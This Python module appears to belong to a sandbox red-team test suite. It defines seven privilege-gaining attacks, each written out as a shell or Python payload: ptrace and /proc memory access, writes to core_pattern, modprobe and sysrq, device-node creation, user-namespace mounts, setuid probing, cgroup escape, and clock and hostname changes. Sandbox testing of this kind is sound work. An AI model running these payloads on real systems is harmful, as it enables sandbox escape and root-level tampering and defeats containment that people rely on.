"""Attacks that would gain a privilege, by which all else follows."""

from tests.redteam import undefended
from tests.redteam.attacks.attack import Attack
from tests.redteam.world import Harm

ESCAPING = (
    Attack(
        "tracing other processes",
        "attaches to the first process, to its parent and to a neighbour's process as a debugger",
        Harm.GAIN,
        """
        python3 - <<'END'
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
targets = os.environ.get("TARGETS") or " ".join(p for p in os.listdir("/proc") if p.isdigit())
for pid in map(int, [*targets.split(), *os.environ.get("NEIGHBOUR", "").split()]):
    if pid in (os.getpid(), os.getppid()):
        continue
    for request in (16, 0x4206):
        if libc.ptrace(request, pid, 0, 0) == 0:
            print("GAINED", pid, request)
            os.waitpid(pid, 0x40000001) if request == 16 else None
            libc.ptrace(17, pid, 0, 0)
            break
    try:
        with open(f"/proc/{pid}/mem", "rb"):
            print("GAINED memory of", pid)
    except OSError:
        pass
END
        """,
        undefended.host_shell,
    ),
    Attack(
        "kernel settings",
        "writes core_pattern, by which the kernel runs a program as root, and opens the sysrq trigger",
        Harm.GAIN,
        """
        for file in core_pattern modprobe; do
            value=$(cat /proc/sys/kernel/$file) && echo "$value" > /proc/sys/kernel/$file && echo "GAINED $file"
        done
        (exec 3> /proc/sysrq-trigger) && echo GAINED sysrq
        """,
        undefended.host_shell,
    ),
    Attack(
        "device node",
        "makes a device node for a device that the sandbox does not show",
        Harm.GAIN,
        """
        for node in 'c 1 11' 'c 1 1' 'b 7 0' 'b 254 0' 'b 8 0'; do
            rm -f node; mknod node $node && (exec 3< node) && echo "GAINED $node"
        done
        """,
        undefended.host_shell,
    ),
    Attack(
        "namespace of its own",
        "becomes root of a user namespace, mounts, and reaches kernel code that only root can reach",
        Harm.GAIN,
        """
        unshare --user --map-root-user --mount sh -c 'mount -t tmpfs none /mnt && echo GAINED'
        unshare --mount true && echo GAINED
        mount -t tmpfs none /tmp && echo GAINED
        mount --bind / /mnt && echo GAINED
        """,
        undefended.other_user,
    ),
    Attack(
        "setuid programs",
        "runs su and similar programs, which run as root for every user",
        Harm.GAIN,
        """
        before=$(sed -n 's/^CapEff:\\t//p' /proc/self/status)
        for program in su mount passwd newgrp chsh gpasswd; do
            program=$(command -v $program) || continue
            sleep 2 | "$program" & sleep 0.2
            for child in $(pgrep -x "$(basename "$program")"); do
                after=$(sed -n 's/^CapEff:\\t//p' /proc/$child/status)
                [ $((0x$after & ~0x$before)) -eq 0 ] || echo "GAINED $program $after"
            done
        done > found 2> /dev/null
        kill $(jobs -p); cat found
        """,
        undefended.other_user,
    ),
    Attack(
        "leaving its control group",
        "moves itself to a group without limits, or raises its own",
        Harm.GAIN,
        """
        before=$(cat /proc/$$/cgroup)
        for group in /sys/fs/cgroup /sys/fs/cgroup/*; do echo $$ > "$group/cgroup.procs"; done 2> /dev/null
        [ "$before" = "$(cat /proc/$$/cgroup)" ] || echo GAINED
        mkdir -p cg && mount -t cgroup -o memory none cg && echo GAINED
        """,
        undefended.in_control_group,
    ),
    Attack(
        "clock and host name",
        "sets the machine's clock and its name",
        Harm.GAIN,
        """
        python3 -c 'import time; time.clock_settime(time.CLOCK_REALTIME, time.time()); print("GAINED clock")'
        python3 -c 'import socket; socket.sethostname("owned"); print("GAINED name")'
        """,
        undefended.own_host_name,
    ),
)
